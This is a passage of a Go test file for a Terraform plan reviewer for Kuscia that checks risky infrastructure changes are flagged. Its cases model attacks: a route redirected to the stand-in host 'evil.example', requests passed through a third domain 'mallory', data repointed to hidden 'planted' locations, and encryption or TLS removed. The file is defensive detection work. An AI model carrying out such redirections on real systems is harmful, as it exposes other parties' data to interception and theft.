package review_test

import (
	"maps"
	"path/filepath"
	"strings"
	"testing"

	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/testing/protocol"
	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/testing/testfile"
)

var (
	forgotten = []string{"forget"}
	recreate  = attributes{"update_strategy": attributes{"type": "Recreate"}}
	// planned is a Rollout of the deployment d of alice.
	planned = attributes{"namespace": "alice", "name": "d", "workload_ref": attributes{"name": "d"}, "canary": attributes{"steps": []any{attributes{"replicas": "1"}}}}
	// weighted is the traffic of d.
	weighted = attributes{"namespace": "alice", "name": "d", "strategy": attributes{"weight": 0}}
)

// strategy is a rolling update.
func strategy(surge, unavailable string) attributes {
	return attributes{"update_strategy": attributes{"type": "RollingUpdate", "max_surge": surge, "max_unavailable": unavailable}}
}

// localfs is a data source of alice, inSource is data in it, and entry one whose access information is
// elsewhere.
func localfs(path string) attributes {
	return attributes{"domain_id": "alice", "datasource_id": "files", "type": "localfs", "localfs": attributes{"path": path}}
}

var (
	inSource = attributes{"domain_id": "alice", "domaindata_id": "scores", "type": "table", "datasource_id": "files"}
	// once is a grant of one use.
	once  = with(toBob, "limit", attributes{"use_count": 1})
	entry = attributes{"domain_id": "alice", "datasource_id": "files", "info_key": "k"}
)

// gateway is the endpoint of bob, toGateway a route of alice to it, and throughMallory one through a third
// domain.
func gateway(isTLS bool) attributes {
	return attributes{"host": "bob.example", "ports": []any{attributes{"name": "http", "port": 443, "protocol": "HTTP", "is_tls": isTLS}}}
}

var (
	toGateway      = with(route, "endpoint", gateway(true))
	toEvil         = with(route, "endpoint", with(gateway(true), "host", "evil.example"))
	throughMallory = with(route, "transit", attributes{"transit_method": "THIRD-DOMAIN", "domain_id": "mallory"})
)

// withAuth is a domain whose nodes authenticate in a way.
func withAuth(kind, method string) attributes {
	return attributes{"domain_id": "alice", "auth_center": attributes{"authentication_type": kind, "token_gen_method": method}}
}

// columns are those with these names.
func columns(names ...string) []any {
	var all []any
	for _, name := range names {
		all = append(all, attributes{"name": name, "type": "str"})
	}
	return all
}

// features is a text for SecretFlow-Serving.
func features(endpoint string) attributes {
	return attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"modelId":"m-1"},"featureSourceConfig":{"httpOpts":{"endpoint":"` + endpoint + `"}}}}}`}
}

// container is an app image with a command.
func container(command string) attributes {
	return attributes{"name": "a", "image": attributes{"name": "sf", "tag": "1"}, "deploy_templates": []any{attributes{"containers": []any{attributes{"command": []any{command}}}}}}
}

// steps is the strategy of a Rollout with one step.
func steps(step attributes) attributes { return attributes{"steps": []any{step}} }

// secretly is the mark of sensitive attributes, on both sides of a change.
func secretly(marks attributes) attributes {
	return attributes{"before_sensitive": marks, "after_sensitive": marks}
}

func unknown(marks attributes) attributes { return attributes{"after_unknown": marks} }

// deployment is d with one party.
func deployment(party attributes, more ...attributes) attributes {
	d := attributes{"name": "d", "input_config": "a", "parties": attributes{"alice": party}}
	for _, fields := range more {
		maps.Copy(d, fields)
	}
	return d
}

// posted is a data source that sends a request in the apply, with further fields.
func posted(fields attributes) attributes {
	return change("data.http.x", []string{"read"}, nil, attributes{"url": "http://kuscia/api/v1/domaindatagrant/create", "method": "POST", "request_headers": attributes{"Authorization": "Bearer abcdefgh"}, "insecure": nil},
		attributes{"mode": "data", "type": "http", "provider_name": "registry.terraform.io/hashicorp/http", "after_unknown": attributes{"request_body": true, "response_body": true}}, fields)
}

// without is an object without an attribute.
func without(object attributes, attribute string) attributes {
	changed := maps.Clone(object)
	delete(changed, attribute)
	return changed
}

// configured is a configuration with the provider configurations of resources, by their
// addresses.
func configured(providers map[string]string, more ...attributes) attributes {
	resources := []any{}
	for address, provider := range providers {
		kind, name, _ := strings.Cut(address, ".")
		resources = append(resources, attributes{"address": address, "mode": "managed", "type": kind, "name": name, "provider_config_key": provider})
	}
	for _, resource := range more {
		resources = append(resources, resource)
	}
	of := func(alias string) attributes {
		return attributes{"name": "kuscia", "alias": alias, "expressions": attributes{"endpoint": attributes{"references": []any{"var." + alias}}}}
	}
	return attributes{"configuration": attributes{
		"provider_config": attributes{"kuscia.a": of("a"), "kuscia.b": of("b")},
		"root_module":     attributes{"resources": resources},
	}}
}

// gone is what others have removed.
func gone(changes ...attributes) attributes {
	fields := maps.Clone(one)
	fields["resource_drift"] = changes
	return fields
}

// at is a configuration as configured has it, whose provider configurations have these addresses.
func at(a, b string, providers map[string]string) attributes {
	fields := configured(providers)
	of := func(alias, endpoint string) attributes {
		return attributes{"name": "kuscia", "alias": alias, "expressions": attributes{"endpoint": attributes{"constant_value": endpoint}}}
	}
	fields["configuration"].(attributes)["provider_config"] = attributes{"kuscia.a": of("a", a), "kuscia.b": of("b", b)}
	return fields
}

// one is a configuration with one provider configuration, which is that of all resources.
var one = attributes{"configuration": attributes{"provider_config": attributes{"kuscia": attributes{"name": "kuscia"}}, "root_module": attributes{}}}

// local is a resource with a provisioner.
func local(address string) attributes {
	kind, name, _ := strings.Cut(address, ".")
	return attributes{"address": address, "mode": "managed", "type": kind, "name": name, "provider_config_key": kind, "provisioners": []any{attributes{"type": "local-exec"}}}
}

// refusals are plans that a gate with one category refuses. Each does harm that a value hides,
// or that is done by something beside the change of an object.
var refusals = map[string]struct {
	failOn  string
	fields  attributes
	changes []attributes
	// says are texts of the review, silent are others that it must not have.
	says, silent []string
}{
	// The name of a route becomes free, and what was there is known.
	"a route closes": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", deleted, toGateway, nil)},
		says: []string{"which become free: the route from `alice` to `bob`", "look at what is created under its name"},
	},
	"a route that others have closed opens to another host": {
		failOn: "grant", fields: gone(change("kuscia_domain_route.r", deleted, toGateway, nil)),
		changes: []attributes{change("kuscia_domain_route.s", created, nil, toEvil)},
		says:    []string{"- Requests go to another host: from `alice` to `bob` (`bob.example` → `evil.example`)", "`bob.example` | `evil.example`"},
	},
	"a route that the plan gives up opens to another host": {
		failOn: "grant", fields: one,
		changes: []attributes{change("kuscia_domain_route.r", forgotten, toGateway, nil), change("kuscia_domain_route.s", created, nil, toEvil)},
		says:    []string{"- Requests go to another host: from `alice` to `bob` (`bob.example` → `evil.example`)"},
	},
	"data that others have removed is created in another place": {
		failOn: "grant", fields: gone(change("kuscia_domain_data.s", deleted, with(scores, "relative_uri", "a.csv"), nil)),
		changes: []attributes{change("kuscia_domain_data.s", created, nil, with(scores, "relative_uri", "b.csv"))},
		says:    []string{"- Sees other data: readers that this plan does not know (`scores` of `alice`: `relative_uri` `a.csv` → `b.csv`)"},
	},
	"a data source that others have removed is created in another place": {
		failOn: "grant", fields: gone(change("kuscia_domain_data_source.s", deleted, localfs("/a"), nil)),
		changes: []attributes{change("kuscia_domain_data_source.s", created, nil, localfs("/b"))},
		says:    []string{"- Sees other data: readers that this plan does not know", "`/b` instead of"},
	},
	"an app image that others have removed is created with another program": {
		failOn: "code", fields: gone(change("kuscia_app_image.a", deleted, container("./serve"), nil)),
		changes: []attributes{change("kuscia_app_image.a", created, nil, container("./other"))},
		says:    []string{"changes what the app image `a` runs", "`./serve` | `./other`"},
	},
	// Provider configurations with one address are one Kuscia.
	"a route goes to another host by another provider configuration of the same Kuscia": {
		failOn:  "grant",
		fields:  at("http://k:1", "HTTP://K.:1/", map[string]string{"kuscia_domain_route.d": "kuscia.a", "kuscia_domain_route.e": "kuscia.b"}),
		changes: []attributes{change("kuscia_domain_route.d", deleted, toGateway, nil), change("kuscia_domain_route.e", created, nil, toEvil)},
		says:    []string{"- Requests go to another host: from `alice` to `bob` (`bob.example` → `evil.example`)"}, silent: []string{"Several provider configurations"},
	},
	"a route goes to another host by a removed block of the same Kuscia": {
		failOn:  "grant",
		fields:  at("https://k", "https://k:443", map[string]string{"kuscia_domain_route.e": "kuscia.b"}),
		changes: []attributes{change("kuscia_domain_route.d", deleted, toGateway, nil), change("kuscia_domain_route.e", created, nil, toEvil)},
		says:    []string{"(`bob.example` → `evil.example`)"}, silent: []string{"Several provider configurations"},
	},
	"granted data is created by another provider configuration of the same Kuscia": {
		failOn:  "grant",
		fields:  at("http://k:1", "http://k:1", map[string]string{"kuscia_domain_data.d": "kuscia.b", "kuscia_domain_data_grant.b": "kuscia.a"}),
		changes: []attributes{change("kuscia_domain_data.d", created, nil, with(scores, "relative_uri", "b.csv")), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says:    []string{"- Sees other data: `bob`"},
	},
	"an app image in use is created by another provider configuration of the same Kuscia": {
		failOn:  "code",
		fields:  at("http://k:1", "http://k:1", map[string]string{"kuscia_app_image.a": "kuscia.b", "kuscia_serving.glm": "kuscia.a"}),
		changes: []attributes{change("kuscia_app_image.a", created, nil, container("./other")), change("kuscia_serving.glm", same, glm(party("a")), glm(party("a")))},
	},
	// Data is repointed, whatever hides its id, and whoever has its grants.
	"data with a sensitive id is repointed": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "a.csv"), with(scores, "relative_uri", "b.csv"), secretly(attributes{"domaindata_id": true})),
			change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"no end date, `3` uses; the data changes: `relative_uri` `a.csv` → `b.csv` |"},
	},
	"data of a sensitive domain is repointed": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "a.csv"), with(scores, "relative_uri", "b.csv"), secretly(attributes{"domain_id": true})),
			change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"no end date, `3` uses; the data changes: `relative_uri`"},
	},
	"data is repointed to a sensitive place": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "planted-a.csv"), with(scores, "relative_uri", "planted-b.csv"), secretly(attributes{"relative_uri": true})),
		},
		says: []string{"| readers that this plan does not know | `scores` of `alice` | sees other data | `relative_uri` (sensitive) | `relative_uri` another value: (sensitive) |"}, silent: []string{"planted"},
	},
	"data is repointed to a place that is known after apply": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "a.csv"), scores, unknown(attributes{"relative_uri": true})),
		},
		says: []string{"| `relative_uri` `a.csv` | `relative_uri` known after apply |"},
	},
	"data is repointed by a replacement": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data.s", replaced, with(scores, "relative_uri", "a.csv"), with(with(scores, "type", "model"), "relative_uri", "b.csv"), attributes{"replace_paths": []any{[]any{"type"}}}),
			change("kuscia_domain_data_grant.b", replaced, toBob, toBob, attributes{"replace_paths": []any{[]any{"domaindata_id"}}}),
		},
		says: []string{
			"- Sees other data: `bob` (`scores` of `alice`: deleted and created again, with its data; the data changes: `relative_uri` `a.csv` → `b.csv`", "| `alice` | Agree that `bob` may see `scores` of `alice`: no end date, `3` uses; deleted and created again, with its data; the data changes: `relative_uri` `a.csv` → `b.csv`",
			"| `bob` | `scores` of `alice` | sees other data |", "- Cannot be taken back: ",
		},
	},
	"data is repointed under another address": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data.s", deleted, with(scores, "relative_uri", "a.csv"), nil), change("kuscia_domain_data.t", created, nil, with(scores, "relative_uri", "b.csv")),
			change("kuscia_domain_data_grant.b", deleted, toBob, nil), change("kuscia_domain_data_grant.c", created, nil, toBob),
		},
		says: []string{
			"- Sees other data: `bob` (`scores` of `alice`: deleted and created again, with its data; the data changes: `relative_uri` `a.csv` → `b.csv`)\n", "| `alice` | Agree that `bob` may see `scores` of `alice`: no end date, `3` uses; deleted and created again, with its data; the data changes: `relative_uri` `a.csv` → `b.csv` |",
		},
	},
	"a data source is repointed under another address": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data_source.s", deleted, localfs("/home/kuscia/pub"), nil), change("kuscia_domain_data_source.t", created, nil, localfs("/home/kuscia/hr")),
			change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{
			"This plan reads the data source `files` from another place.", "`bob` (all data of the data source `files` of `alice`, in this plan `scores`: `localfs.path` `/home/kuscia/hr` instead of `localfs.path` `/home/kuscia/pub`)",
			"replaced, because of another block, before <code>kuscia&#95;domain&#95;data&#95;source&#46;s</code>", "Agree that `bob` may see all data of the data source",
		},
	},
	"a data source is created while data is in it": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data_source.t", created, nil, localfs("/home/kuscia/hr")), change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"`bob` (all data of the data source `files` of `alice`, in this plan `scores`: `localfs.path` `/home/kuscia/hr`, `type` `localfs`)", "| sees other data | (not known) | `localfs.path` `/home/kuscia/hr`, `type` `localfs` |"},
	},
	"a data source is created beside a deleted one of a provider configuration that is not known": {
		failOn:  "grant",
		fields:  configured(map[string]string{"kuscia_domain_data_source.t": "kuscia.a"}, attributes{"address": "kuscia_domain.b", "mode": "managed", "type": "kuscia_domain", "name": "b", "provider_config_key": "kuscia.b"}),
		changes: []attributes{change("kuscia_domain_data_source.s", deleted, localfs("/home/kuscia/pub"), nil), change("kuscia_domain_data_source.t", created, nil, localfs("/home/kuscia/hr"))},
		says:    []string{"reads the data source `files` from another place"},
	},
	"another use of data that is granted once": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data_grant.b", same, once, once), change("kuscia_domain_data_grant.c", created, nil, once)},
		says: []string{
			"This plan widens the access of `bob` to `scores`.", "- Sees more, or may use it more: `bob` (`scores` of `alice`: its uses are added to those of another grant)\n",
			"| `alice` | Agree that `bob` may see `scores` of `alice`: no end date, one use; its uses are added to those of another grant |", "- Cannot be taken back: what has been read with the new access\n",
		},
	},
	"a data source whose id is known after apply is created while data is in one": {
		failOn: "grant",
		fields: configured(nil, attributes{"address": "kuscia_domain_data_source.t", "mode": "managed", "type": "kuscia_domain_data_source", "name": "t", "provider_config_key": "kuscia", "expressions": attributes{"datasource_id": attributes{"references": []any{"terraform_data.id.output"}}}}),
		changes: []attributes{
			change("kuscia_domain_data_source.t", created, nil, without(localfs("/home/kuscia/hr"), "datasource_id"), attributes{"after_unknown": attributes{"datasource_id": true}}),
			change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"- Sees other data: readers that this plan does not know (all data of the data source `kuscia_domain_data_source.t` of `alice`: `localfs.path` `/home/kuscia/hr`"},
	},
	"data whose id is known after apply is created while there is a grant": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.t", created, nil, without(with(scores, "relative_uri", "hr.csv"), "domaindata_id"), attributes{"after_unknown": attributes{"domaindata_id": true}}), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says:    []string{"- Sees other data: readers that this plan does not know (data of `alice` that is known after apply: `relative_uri` `hr.csv`"},
	},
	"an app image whose name is known after apply is created while a serving uses one": {
		failOn:  "code",
		changes: []attributes{change("kuscia_app_image.t", created, nil, attributes{"image": attributes{"name": "x"}}, attributes{"after_unknown": attributes{"name": true}}), change("kuscia_serving.glm", same, glm(party("a")), glm(party("a")))},
		says:    []string{"This plan changes what the app image `kuscia_app_image.t` runs."},
	},
	"granted data is given up and created elsewhere": {
		failOn: "grant", fields: one,
		changes: []attributes{
			change("kuscia_domain_data.s", forgotten, with(with(scores, "relative_uri", "scores.csv"), "columns", columns("id")), nil), change("kuscia_domain_data.hr", created, nil, with(with(scores, "relative_uri", "hr.csv"), "columns", columns("id", "salary"))),
			change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says:   []string{"- Sees other data: `bob` (`scores` of `alice`: the data changes: `relative_uri` `scores.csv` → `hr.csv`, new columns `salary`)", "| `relative_uri` | `scores.csv` | `hr.csv` |", "- Stays as it is, and this configuration no longer manages it: "},
		silent: []string{"(not known)", "`relative_uri` none"},
	},
	"a serving is given up and created elsewhere": {
		failOn: "code", fields: one,
		changes: []attributes{change("kuscia_serving.old", forgotten, glm(party("a")), nil), change("kuscia_serving.new", created, nil, glm(party("a")))},
		says:    []string{"> `kuscia_serving.new` creates what stays there when the plan gives up `kuscia_serving.old`: the server may refuse that. To keep it, import it."},
	},
	"data without a grant is given up and created elsewhere": {
		failOn: "grant", fields: one,
		changes: []attributes{change("kuscia_domain_data.s", forgotten, with(scores, "relative_uri", "scores.csv"), nil), change("kuscia_domain_data.hr", created, nil, with(scores, "relative_uri", "hr.csv"))},
		says:    []string{"| sees other data | `relative_uri` `scores.csv` | `relative_uri` `hr.csv` |", "| `relative_uri` | `scores.csv` | `hr.csv` |"}, silent: []string{"(not known)", "`relative_uri` none"},
	},
	"hidden data is given up and created elsewhere": {
		failOn: "grant", fields: one,
		changes: []attributes{change("kuscia_domain_data.s", forgotten, with(scores, "relative_uri", "planted-1"), nil, attributes{"before_sensitive": attributes{"relative_uri": true}}), change("kuscia_domain_data.hr", created, nil, with(scores, "relative_uri", "planted-2"))},
		says:    []string{"| `relative_uri` (sensitive) | `relative_uri` another value: (sensitive) |"}, silent: []string{"planted"},
	},
	"data is given up and created as it was": {
		failOn: "grant", fields: one,
		changes: []attributes{change("kuscia_domain_data.s", forgotten, with(scores, "relative_uri", "scores.csv"), nil), change("kuscia_domain_data.hr", created, nil, with(scores, "relative_uri", "scores.csv"))},
		says:    []string{"| sees other data | (not known) | `relative_uri` `scores.csv`, `type` `table` |"}, silent: []string{"`relative_uri` none"},
	},
	"a data source is given up and created elsewhere": {
		failOn: "grant", fields: one,
		changes: []attributes{change("kuscia_domain_data_source.s", forgotten, localfs("/pub"), nil), change("kuscia_domain_data_source.t", created, nil, localfs("/hr"))},
		says:    []string{"`localfs.path` `/hr` instead of `localfs.path` `/pub`", "| sees other data | `localfs.path` `/pub` | `localfs.path` `/hr` |"}, silent: []string{"(not known)"},
	},
	"data that is left is created elsewhere": {
		failOn: "grant", fields: one,
		changes: []attributes{change("kuscia_domain_data.s", []string{"create", "forget"}, with(scores, "relative_uri", "scores.csv"), with(scores, "relative_uri", "hr.csv"))},
		says:    []string{"| sees other data | `relative_uri` `scores.csv` | `relative_uri` `hr.csv` |"}, silent: []string{"(not known)"},
	},
	"data of another Kuscia is given up": {
		failOn:  "grant",
		fields:  configured(map[string]string{"kuscia_domain_data.hr": "kuscia.a", "kuscia_domain_data.s": "kuscia.b"}),
		changes: []attributes{change("kuscia_domain_data.s", forgotten, with(scores, "relative_uri", "scores.csv"), nil), change("kuscia_domain_data.hr", created, nil, with(scores, "relative_uri", "hr.csv")), change("kuscia_domain_data_grant.b", created, nil, toBob)},
		silent:  []string{"`scores.csv` → "},
	},
	"data is created while it is granted": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.t", created, nil, with(scores, "relative_uri", "hr.csv")), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says:    []string{"- Sees other data: `bob` (`scores` of `alice`: the data changes: `relative_uri` `hr.csv`"},
	},
	"the entry of a data source under another address": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_config.k", deleted, attributes{"key": "k", "value": "planted-a"}, nil, secretly(attributes{"value": true})), change("kuscia_config.l", created, nil, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true})),
			change("kuscia_domain_data_source.s", same, entry, entry), change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"changes the entry `k` of a data source", ", `bob` (all data of the data source `files` of `alice`, in this plan `scores`: the entry `k` changes;"}, silent: []string{"planted"},
	},
	"the entry of a data source is created": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_config.l", created, nil, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true})), change("kuscia_domain_data_source.s", same, entry, entry),
		},
		silent: []string{"planted"},
	},
	"an entry of which data sources of other configurations may have data": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_config.k", updated, attributes{"key": "k", "value": "planted-a"}, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true}))},
		says: []string{
			"This plan changes the entry `k` (which data sources of other configurations may use) and changes the secret", "- May see other data: readers that this plan does not know (all data of data sources with the entry `k`, which this plan does not have: the entry `k` changes;",
		},
		silent: []string{"planted"},
	},
	"an entry of two data sources": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_config.k", updated, attributes{"key": "k", "value": "planted-a"}, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true})),
			change("kuscia_domain_data_source.s", same, entry, entry), change("kuscia_domain_data_source.t", same, with(entry, "domain_id", "carol"), with(entry, "domain_id", "carol")),
		},
		says: []string{"all data of the data source `files` of `alice`", "all data of the data source `files` of `carol`", "| `carol` | Agree that"},
	},
	"an entry becomes that of a data source": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_config.k", replaced, attributes{"key": "other", "value": "planted-a"}, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true})), change("kuscia_domain_data_source.s", same, entry, entry),
		},
		silent: []string{"planted"},
	},
	"a certificate changes with the address of a domain": {
		failOn:  "credentials",
		changes: []attributes{change("kuscia_domain.a", deleted, attributes{"domain_id": "alice", "cert": "x"}, nil), change("kuscia_domain.b", created, nil, attributes{"domain_id": "alice", "cert": "y"})},
		says:    []string{"replaces the domain `alice`", "| `kuscia_domain.b` | `cert` | certificate |"},
	},
	"data whose grants are elsewhere is repointed": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "datasource_id", "a"), with(scores, "datasource_id", "b"))},
		says:    []string{"This plan changes what can be read of the data `scores`.", "| readers that this plan does not know | `scores` of `alice` | sees other data | `datasource_id` `a` | `datasource_id` `b` |"},
	},
	"a data source is repointed": {
		failOn: "grant",
		changes: []attributes{change("kuscia_domain_data_source.s", updated,
			attributes{"domain_id": "alice", "datasource_id": "oss", "oss": attributes{"bucket": "a", "access_key_id": "x"}}, attributes{"domain_id": "alice", "datasource_id": "oss", "oss": attributes{"bucket": "b", "access_key_id": "y"}},
			secretly(attributes{"oss": attributes{"access_key_id": true}}))},
		says: []string{"This plan reads the data source `oss` from another place", "changes the secret `oss.access_key_id` of the data source"},
	},
	"a data source is replaced": {
		failOn: "grant",
		changes: []attributes{change("kuscia_domain_data_source.s", replaced,
			attributes{"domain_id": "alice", "datasource_id": "oss", "oss": attributes{"bucket": "a"}}, attributes{"domain_id": "alice", "datasource_id": "oss", "oss": attributes{"bucket": "b"}})},
	},
	"the configuration entry of a data source changes": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_config.k", updated, attributes{"key": "k", "value": "planted-a"}, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true})),
			change("kuscia_domain_data_source.s", same, attributes{"domain_id": "alice", "datasource_id": "oss", "info_key": "k"}, attributes{"domain_id": "alice", "datasource_id": "oss", "info_key": "k"}),
		},
		silent: []string{"planted"},
	},
	"data of two Kuscias with the same id": {
		failOn: "grant",
		fields: configured(map[string]string{"kuscia_domain_data.a": "kuscia.a", "kuscia_domain_data_grant.a": "kuscia.a"}),
		changes: []attributes{
			change("kuscia_domain_data.a", updated, with(scores, "relative_uri", "a.csv"), with(scores, "relative_uri", "b.csv")),
			change("kuscia_domain_data.b", deleted, scores, nil),
			change("kuscia_domain_data_grant.a", same, toBob, toBob),
		},
		says:   []string{"the data changes: `relative_uri` `a.csv` → `b.csv` |", "The data `scores` of `alice` in a provider configuration that this plan does not name: removed; grants of other configurations end with it, which are not known here.", "[(\"`scores #40;kuscia#46;a#41;\n\n#126; changed`\")]", "#45; gone`\")]"},
		silent: []string{"although the plan keeps it"},
	},
	"data with a sensitive id takes a grant with it": {
		failOn: "revoke",
		changes: []attributes{
			change("kuscia_domain_data.s", replaced, scores, scores, attributes{"replace_paths": []any{[]any{"columns"}}}, secretly(attributes{"domaindata_id": true})),
			change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"ends the access of `bob` to data that is sensitive", "1 grant ends with it", "ends with its data, although the plan keeps it"},
	},
	"data takes grants of other configurations with it": {
		failOn:  "revoke",
		changes: []attributes{change("kuscia_domain_data.s", deleted, scores, nil)},
		says:    []string{"removed; grants of other configurations end with it, which are not known here."},
	},
	"a leftover of a grant is destroyed": {
		failOn:  "revoke",
		changes: []attributes{change("kuscia_domain_data_grant.b", deleted, toBob, nil, attributes{"deposed": "12345678"})},
		says:    []string{"ends the access of `bob` to `scores`", "a leftover of an earlier replacement is removed"},
	},
	"a leftover of a serving is destroyed": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_serving.glm", deleted, glm(party("a")), nil, attributes{"deposed": "12345678"})},
	},
	"a data source whose data is granted is removed": {
		failOn:  "revoke",
		changes: []attributes{change("kuscia_domain_data_source.f", deleted, localfs("/pub"), nil), change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says: []string{
			"This plan removes the data source `files` (whose data can no longer be read).", "`bob` (all data of the data source `files` of `alice`, in this plan `scores`: the data source is removed)\n",
			"| `bob` | all data of the data source `files` of `alice`, in this plan `scores` | loses access | as grants give it | none: the data source is removed |", "| `bob` | Do without all data of the data source `files`",
			"- A reader who loses access keeps what it has read.",
		},
	},
	"a data source gets another id": {
		failOn:  "revoke",
		changes: []attributes{change("kuscia_domain_data_source.f", replaced, localfs("/pub"), with(localfs("/pub"), "datasource_id", "other")), change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says:    []string{"| `bob` | all data of the data source `files` of `alice`, in this plan `scores` | loses access |"},
	},
	"a data source of data that is elsewhere is removed": {
		failOn:  "revoke",
		changes: []attributes{change("kuscia_domain_data_source.f", deleted, localfs("/pub"), nil)},
		says:    []string{"| readers that this plan does not know | all data of the data source `files` of `alice` | loses access |"},
	},
	"a data source is removed with its data": {
		failOn:  "revoke",
		changes: []attributes{change("kuscia_domain_data_source.f", deleted, localfs("/pub"), nil), change("kuscia_domain_data.s", deleted, inSource, nil), change("kuscia_domain_data_grant.b", deleted, toBob, nil)},
		says:    []string{"removes the data source `files`"}, silent: []string{"all data of the data source"},
	},
	"the entry of a data source that stays is removed": {
		failOn: "revoke",
		changes: []attributes{
			change("kuscia_config.k", deleted, attributes{"key": "k", "value": "planted-a"}, nil, secretly(attributes{"value": true})),
			change("kuscia_domain_data_source.s", same, entry, entry), change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{
			"This plan removes the entry `k` of a data source (whose data can no longer be read).",
			"| `bob` | all data of the data source `files` of `alice`, in this plan `scores` | loses access | as grants give it | none: the entry `k` of the data source is removed |", "| `bob` | Do without",
		},
		silent: []string{"planted"},
	},

	// Who sees requests, and who acts as a domain.
	"requests go through a third domain": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, throughMallory)},
		says: []string{
			"This plan lets a third domain see the requests of the route from `alice` to `bob` (through `mallory`, which can read the requests) and changes the route from `alice` to `bob`.",
			"- A third domain sees requests: from `alice` to `bob` (through `mallory`, which can read the requests)\n", "| `alice` | `bob` | `bob.example`, port `443` (`HTTP` with TLS) → through `mallory` | `Token` |",
			"| `alice` | Agree that requests from `alice` to `bob` go through `mallory`, which can read the requests |", "| `bob` | Agree that requests from", "| `mallory` | Let requests from `alice` to `bob` through |",
		},
		silent: []string{"Let `alice` reach", "Let the nodes of"},
	},
	"a route opens through a third domain": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", created, nil, with(throughMallory, "body_encryption", attributes{"algorithm": "AES"}))},
		says: []string{
			"opens the route from `alice` to `bob`", "- A third domain sees requests: from `alice` to `bob` (through `mallory`, which can read the requests but not their bodies)\n", "| `alice` | `bob` | through `mallory` | `Token` | opens |",
		},
	},
	"requests go through another third domain": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", replaced, with(throughMallory, "transit", attributes{"transit_method": "THIRD-DOMAIN", "domain_id": "carol"}), throughMallory)},
		says:    []string{"(through `mallory`, which can read the requests)", "| through `carol` → through `mallory` |"},
	},
	"a third domain that is hidden": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, throughMallory, secretly(attributes{"transit": attributes{"domain_id": true}}))},
		says:    []string{"through a domain that is sensitive, which can read the requests"}, silent: []string{"mallory"},
	},
	"a third domain that is known after apply": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(throughMallory, "transit", attributes{"transit_method": "THIRD-DOMAIN"}), unknown(attributes{"transit": attributes{"domain_id": true}}))},
		says:    []string{"through a domain that is known after apply, which can read the requests"},
	},
	"bodies through a third domain are no longer encrypted": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, with(throughMallory, "body_encryption", attributes{"algorithm": "AES"}), throughMallory)},
		says:    []string{"- No longer encrypted: requests from `alice` to `bob` (their bodies, which `mallory` can read)\n", "Agree that requests from `alice` to `bob` are no longer encrypted: their bodies, which `mallory` can read |"},
	},
	"bodies are no longer encrypted": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, with(toGateway, "body_encryption", attributes{"algorithm": "AES"}), toGateway)},
		says:    []string{"This plan ends the encryption of the route from `alice` to `bob` (their bodies)", "- No longer encrypted: requests from `alice` to `bob` (their bodies)\n"}, silent: []string{"Let `alice` reach", "Let the nodes of"},
	},
	"a gateway without TLS": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "endpoint", gateway(false)))},
